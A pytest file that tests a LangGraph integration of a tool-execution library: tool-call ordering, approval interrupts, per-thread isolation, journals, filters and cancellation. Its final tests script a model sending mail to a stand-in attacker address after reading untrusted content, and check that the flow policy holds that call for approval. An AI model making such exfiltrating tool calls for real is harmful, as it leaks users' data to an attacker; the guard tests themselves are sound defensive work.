import asyncio
import importlib
from collections.abc import Callable, Sequence
from typing import Any

import anyio
import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.runtime import Runtime
from langgraph.types import Command

from spindle import Budget, Executor, Journal, ToolFilter
from spindle.bridges.frameworks.langgraph import tool_node, tools_condition
from spindle.trust import SinkPolicy
from tests.bridges.frameworks.workshop import HOSTILE, REASON, Workshop, build_guarded, fetch_page, send_mail

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

ANN: Any = {"configurable": {"thread_id": "ann"}}
BOB: Any = {"configurable": {"thread_id": "bob"}}


@pytest.fixture
def anyio_backend() -> str:
    """LangGraph runs on asyncio only."""
    return "asyncio"


class Fake(GenericFakeChatModel):
    """A model that says what it was given to say."""

    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self


def asks(*calls: tuple[str, Any], start: int = 0) -> AIMessage:
    """A message with calls; those whose arguments are not the text of a JSON object are broken ones."""
    sound: list[Any] = []
    broken: list[Any] = []
    for n, (name, args) in enumerate(calls, start):
        if isinstance(args, str):
            facts = {"type": "invalid_tool_call", "name": name, "args": args, "id": f"c{n}", "error": None}
            broken.append(facts)
        else:
            sound.append({"type": "tool_call", "name": name, "args": args, "id": f"c{n}"})
    return AIMessage("", tool_calls=sound, invalid_tool_calls=broken)


def graph(node: Any, replies: Sequence[AIMessage], *, saver: Any = None) -> Any:
    model = Fake(messages=iter([*replies, AIMessage("done")]))
    say: Callable[[Any], Any] = lambda state: {"messages": [model.invoke(state["messages"])]}  # noqa: E731
    built: Any = StateGraph(MessagesState)
    built.add_node("model", say)
    built.add_node("tools", node)
    built.add_edge(START, "model")
    built.add_conditional_edges("model", tools_condition)
    built.add_edge("tools", "model")
    return built.compile(checkpointer=saver)


def answers(state: Any) -> list[ToolMessage]:
    return [message for message in state["messages"] if isinstance(message, ToolMessage)]


HELLO: Any = {"messages": [("user", "hello")]}


async def test_all_calls_of_a_message_are_answered_in_order_broken_ones_too(shop: Workshop) -> None:
    sound = [(name, {"a": 1, "colour": "red"} if "colour" in args else {}) for name, args in HOSTILE[1:5]]
    asked = asks(*sound, ("nothing", {}), ("add", {"a": 20, "b": 22}), HOSTILE[0])

    state = await graph(tool_node(shop.registry), [asked]).ainvoke(HELLO)

    assert [message.tool_call_id for message in answers(state)] == [f"c{n}" for n in range(7)]
    assert [message.artifact.get("code", "ok") for message in answers(state)] == [
        "execution_failed",
        "ok",
        "timed_out",
        "input_invalid",
        "not_available",
        "ok",
        "input_invalid",
    ]
    assert state["messages"][-1].content == "done"
    assert shop.ran.count("add") == 1


async def test_a_message_with_broken_calls_alone_goes_to_the_tools(shop: Workshop) -> None:
    state = await graph(tool_node(shop.registry), [asks(("add", '{"a": 1'))]).ainvoke(HELLO)

    assert [message.status for message in answers(state)] == ["error"]
    assert tools_condition({"messages": [AIMessage("bye")]}) == "__end__"
    assert tools_condition([asks(("add", {}))]) == "tools"


async def test_an_unfinished_message_of_a_stream_is_not_completed(shop: Workshop) -> None:
    chunk: Any = {"type": "tool_call_chunk", "name": "add", "args": '{"a": 1', "id": "c0", "index": 0}
    said = AIMessageChunk(content="", tool_call_chunks=[chunk])
    assert said.tool_calls  # LangChain has closed the brace

    given: Any = await tool_node(shop.registry).ainvoke([said], _standing_alone())

    assert [message.artifact["code"] for message in given] == ["input_invalid"]
    assert shop.ran == []


async def test_the_last_call_of_an_answer_that_was_cut_off_is_not_run(shop: Workshop) -> None:
    asked = asks(("add", {"a": 1}), ("add", {"a": 2}))
    asked.response_metadata = {"finish_reason": "length"}

    state = await graph(tool_node(shop.registry), [asked]).ainvoke(HELLO)

    assert [message.artifact.get("code", "ok") for message in answers(state)] == ["ok", "input_invalid"]
    assert shop.ran == ["add"]


def _standing_alone() -> Any:
    """A node that is run outside of a graph must be given what a graph gives."""
    return {"configurable": {"__pregel_runtime": Runtime()}}


@pytest.mark.parametrize("saved", [False, True])
def test_a_large_result_is_read_in_a_later_step(shop: Workshop, *, saved: bool) -> None:
    script = [asks(("big", {})), asks(("artifact_cat", {"call_id": "c0", "start": 99_999}), start=1)]

    state = graph(tool_node(shop.registry), script, saver=InMemorySaver() if saved else None).invoke(HELLO, ANN)

    assert "line 99999" in str(answers(state)[1].content)


async def test_another_conversation_of_the_same_graph_cannot_read_it(shop: Workshop) -> None:
    reads = asks(("artifact_cat", {"call_id": "c0"}), start=1)
    node, saver = tool_node(shop.registry), InMemorySaver()

    own = await graph(node, [asks(("big", {})), reads], saver=saver).ainvoke(HELLO, ANN)
    others = await graph(node, [reads], saver=saver).ainvoke(HELLO, BOB)
    unsaved = await graph(node, [reads]).ainvoke(HELLO)

    assert answers(own)[1].status == "success"
    assert (answers(others)[0].status, answers(unsaved)[0].status) == ("error", "error")


async def test_a_ready_made_agent_takes_the_node(shop: Workshop) -> None:
    replies = [asks(("add", {"a": 1}), ("big", {}), ("nothing", {})), AIMessage("done")]
    executor = Executor(shop.registry, budget=Budget(chars=3_000))
    prebuilt: Any = importlib.import_module("langgraph.prebuilt")  # its types are not whole
    with pytest.warns(DeprecationWarning, match="create_react_agent"):
        agent = prebuilt.create_react_agent(Fake(messages=iter(replies)), tool_node(shop.registry, executor=executor))

    state = await agent.ainvoke(HELLO)

    assert [message.status for message in answers(state)] == ["success", "success", "error"]
    assert 1_000 <= len(str(answers(state)[1].content)) < 1_700


@pytest.mark.parametrize("blocking", [False, True])
async def test_a_person_is_asked_by_an_interrupt_before_anything_runs(shop: Workshop, *, blocking: bool) -> None:
    asked = asks(("pay", {"amount": 3}), ("pay", {"amount": 5}), ("pay", {"amount": "much"}), ("add", {"a": 1}))
    made = graph(tool_node(shop.registry), [asked], saver=InMemorySaver())

    async def go(given: Any) -> Any:
        return await anyio.to_thread.run_sync(made.invoke, given, ANN) if blocking else await made.ainvoke(given, ANN)

    stopped = await go(HELLO)
    ran_before = list(shop.ran)
    done = await go(Command(resume={"c0": True, "c1": "too much"}))

    [question] = stopped["__interrupt__"]
    assert [(each["tool_call_id"], each["args"]) for each in question.value["approve"]] == [
        ("c0", {"amount": 3}),
        ("c1", {"amount": 5}),
    ]
    assert ran_before == []
    assert sorted(shop.ran) == ["add", "pay"]
    assert [message.artifact.get("code", "ok") for message in answers(done)] == ["ok", "denied", "input_invalid", "ok"]


@pytest.mark.parametrize("answer", [False, None, 1, {}, {"other": True}], ids=["no", "none", "one", "empty", "other"])
async def test_only_a_clear_yes_is_one(shop: Workshop, answer: Any) -> None:
    made = graph(tool_node(shop.registry), [asks(("pay", {"amount": 3}))], saver=InMemorySaver())
    await made.ainvoke(HELLO, ANN)

    await made.ainvoke(Command(resume=[answer] if answer is None else answer), ANN)

    assert shop.ran == []


async def test_without_an_approver_the_model_sees_that_approval_is_needed(shop: Workshop) -> None:
    asked = [asks(("pay", {"amount": 3}))]

    unsaved = await graph(tool_node(shop.registry), asked).ainvoke(HELLO)
    reported = await graph(tool_node(shop.registry, interrupts=False), asked, saver=InMemorySaver()).ainvoke(HELLO, ANN)

    assert [answers(state)[0].artifact["code"] for state in (unsaved, reported)] == ["needs_approval", "needs_approval"]


async def test_the_executors_own_approver_is_asked_instead(shop: Workshop) -> None:
    async def yes(_request: object) -> bool:
        return True

    node = tool_node(shop.registry, executor=Executor(shop.registry, approve=yes))
    state = await graph(node, [asks(("pay", {"amount": 3}))], saver=InMemorySaver()).ainvoke(HELLO, ANN)

    assert answers(state)[0].status == "success"


async def test_earlier_untrusted_content_guards_dangerous_tools(shop: Workshop) -> None:
    node = tool_node(shop.registry, executor=Executor(shop.registry, sinks=SinkPolicy(["add"])))
    script = [asks(("add", {"a": 1})), asks(("add", {"a": 2}), start=1)]

    state = await graph(node, script).ainvoke(HELLO)

    assert [message.artifact.get("code", "ok") for message in answers(state)] == ["ok", "needs_approval"]


async def test_with_a_journal_a_step_run_again_repeats_no_call(shop: Workshop) -> None:
    async with Journal.memory() as journal:
        node = tool_node(shop.registry, executor=Executor(shop.registry, journal=journal))
        for _ in range(2):
            state = await graph(node, [asks(("add", {"a": 1}))], saver=InMemorySaver()).ainvoke(HELLO, ANN)
            assert "\n3\n" in str(answers(state)[0].content)

    assert shop.ran == ["add"]


async def test_a_filter_holds(shop: Workshop) -> None:
    node = tool_node(shop.registry, filter=ToolFilter(["big"]))
    state = await graph(node, [asks(("add", {"a": 1}))]).ainvoke(HELLO)

    assert answers(state)[0].artifact["code"] == "not_available"


async def test_cancelling_a_graph_reaches_the_tool(shop: Workshop) -> None:
    with anyio.fail_after(30):
        running = asyncio.ensure_future(graph(tool_node(shop.registry), [asks(("waits", {}))]).ainvoke(HELLO))
        await shop.started.wait()
        running.cancel()
        with pytest.raises(asyncio.CancelledError):
            await running
        await shop.cancelled.wait()


@pytest.mark.parametrize("config", [ANN, {}], ids=["thread", "no thread"])
async def test_a_flow_policy_reads_the_state(config: Any) -> None:
    script = [
        asks(("fetch_page", {})),
        asks(("send_mail", {"to": "bob@corp.example"}), ("send_mail", {"to": "mallory@evil.example"}), start=1),
    ]
    node = tool_node([fetch_page, send_mail], executor=build_guarded())
    said = {"messages": [("user", "Send it to bob@corp.example"), HumanMessage("mallory@evil.example", name="agent")]}

    state = await graph(node, script).ainvoke(said, config)

    assert [message.artifact.get("code", "ok") for message in answers(state)] == ["ok", "ok", "needs_approval"]


async def test_an_interrupt_of_a_flow_policy_says_why() -> None:
    script = [asks(("fetch_page", {})), asks(("send_mail", {"to": "mallory@evil.example"}), start=1)]
    made = graph(tool_node([fetch_page, send_mail], executor=build_guarded()), script, saver=InMemorySaver())

    stopped = await made.ainvoke(HELLO, ANN)
    done = await made.ainvoke(Command(resume=True), ANN)

    [question] = stopped["__interrupt__"]
    assert [each["reasons"] for each in question.value["approve"]] == [[REASON.format(call_id="c0")]]
    assert [message.status for message in answers(done)] == ["success", "success"]
